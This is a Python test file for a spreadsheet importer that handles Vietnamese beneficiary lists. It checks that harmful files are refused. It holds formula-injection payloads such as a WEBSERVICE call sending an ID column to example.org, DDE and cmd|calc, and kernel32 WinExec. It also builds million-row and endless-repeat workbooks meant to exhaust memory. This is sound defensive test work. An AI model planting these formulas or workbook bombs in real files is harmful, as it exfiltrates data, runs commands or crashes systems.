"""Files made to do harm are refused in words, in bounded memory and time."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import xlwt

from ansinh.papers.lists.refusals import ListRefused
from ansinh.papers.lists.sandbox import read_in_child
from papers.lists.handmade import TODAY, Formula, Sheet, write
from papers.lists.memory import kilobytes, stayed_below

HEAD = ["STT", "Họ và tên", "Ngày sinh", "Số CCCD", "Số tiền"]
AN = [1, "Lê Thị An", "05/03/1987", "030187001234", 1_500_000]
LEAN_ROW = b"<row><c><v>1</v></c></row>"
TEN_MILLION = 10_000_000


def refusal(path: Path) -> str:
    with pytest.raises(ListRefused) as refused:
        read_in_child(path, policy=None, today=TODAY)
    assert refused.value.message["vi"]
    assert refused.value.message["en"]
    return refused.value.code


def rewritten(path: Path, change: Callable[[bytes], bytes]) -> Path:
    """Change the first sheet of a workbook."""
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, change(content) if name.endswith("sheet1.xml") else content)
    return path


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://example.org/?a="&D2)', "=DDE(1,2,3)", "=cmd|'/c calc'!A0", '=HYPERLINK("http://example.org","Lê Thị An")', '=HYPERLINK("\\\\host\\share\\a","x")',
        '=IMAGE("http://example.org/a.png")', '=IMPORTXML("http://example.org","//a")', '=CALL("kernel32","WinExec","JCJ","calc",0)', '=RTD("server","",1)',
        '=_xlfn.FILTERXML(A1,"//a")',
    ],
)  # fmt: skip
def test_a_formula_that_fetches_opens_or_runs_is_refused(tmp_path: Path, formula: str) -> None:
    assert refusal(write(tmp_path / "a.xlsx", Sheet([HEAD, [*AN[:4], Formula(formula)]]))) == "formula_calls_out"


@pytest.mark.parametrize("formula", ['=HYPERLINK("#DS!A1","về đầu")', '="call "&A1', "=SUM(E1:E9)", '=VLOOKUP("image",A1:B2,2)'])
def test_a_formula_that_stays_within_its_file_is_read(tmp_path: Path, formula: str) -> None:
    path = write(tmp_path / "a.xlsx", Sheet([HEAD, [*AN[:4], Formula(formula, 1_500_000)]]))
    assert len(read_in_child(path, policy=None, today=TODAY).rows) == 1


def test_a_sheet_of_ten_million_rows_is_refused(tmp_path: Path) -> None:
    path = write(tmp_path / "a.xlsx", Sheet([HEAD, AN]))
    rewritten(path, lambda sheet: sheet.replace(b"</sheetData>", LEAN_ROW * TEN_MILLION + b"</sheetData>"))
    assert refusal(path) in {"suspicious_size", "too_large"}


@pytest.mark.parametrize("attribute", [b'r="9999999"', b'r="XFD1048576"'])
def test_a_cell_too_far_from_the_table_is_refused(tmp_path: Path, attribute: bytes) -> None:
    path = write(tmp_path / "a.xlsx", Sheet([HEAD, AN]))
    far = b'<row r="1048576"><c ' + attribute.replace(b'"9', b'"A9') + b"><v>1</v></c></row></sheetData>"
    rewritten(path, lambda sheet: sheet.replace(b"</sheetData>", far).replace(b'<dimension ref="A1:E2"/>', b""))
    assert refusal(path) == "stray_cell"


@pytest.mark.parametrize("repeated", ['number-rows-repeated="10000000"', 'number-columns-repeated="16384" table:style-name="x"'])
def test_an_open_document_that_repeats_itself_without_end_is_refused_or_read_in_bounds(tmp_path: Path, repeated: str) -> None:
    row = (
        f"<table:table-row table:{repeated if 'rows' in repeated else ''}>" if "rows" in repeated else '<table:table-row table:number-rows-repeated="1000000">'
    )
    cell = f'<table:table-cell office:value-type="string" {"table:" + repeated if "columns" in repeated else ""}><text:p>x</text:p></table:table-cell>'
    content = (
        '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:spreadsheet><table:table table:name="DS">'
        f"{row}{cell}</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    )
    path = tmp_path / "a.ods"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content)
        archive.writestr("META-INF/manifest.xml", "<manifest/>")
    before = kilobytes()
    assert refusal(path) in {"stray_cell", "out_of_memory", "out_of_time", "unreadable"}
    assert stayed_below(2**20, before), "no child had more than a gigabyte"


def test_an_old_workbook_that_links_to_another_is_refused(tmp_path: Path) -> None:
    book = xlwt.Workbook()
    book.add_sheet("DS").write(0, 0, "x" * 5_000)
    book.save(str(tmp_path / "a.xls"))
    data = (tmp_path / "a.xls").read_bytes()
    assert data.count(b"\x06\x00EXCEL9") <= 1
    from ansinh.papers.lists import xls

    linked = b"\x09\x08\x10\x00" + b"\0" * 16 + b"\xae\x01\x0c\x00" + b"\x01\x00" + b"\x08\x00\x00" + b"http://" + b"\x0a\x00\x00\x00"
    with pytest.raises(ListRefused) as refused:
        xls._marks(linked)
    assert refused.value.code == "external_links"


def test_an_open_document_with_a_formula_that_calls_out_is_refused_with_its_cell(tmp_path: Path) -> None:
    content = (
        '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:spreadsheet><table:table table:name="DS"><table:table-row>'
        '<table:table-cell/><table:table-cell table:formula="of:=WEBSERVICE(&quot;http://example.org&quot;)" office:value-type="float" office:value="1"/>'
        "</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    )
    path = tmp_path / "a.ods"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content)
    with pytest.raises(ListRefused) as refused:
        read_in_child(path, policy=None, today=TODAY)
    assert refused.value.code == "formula_calls_out"
    assert "B1" in refused.value.message["vi"]
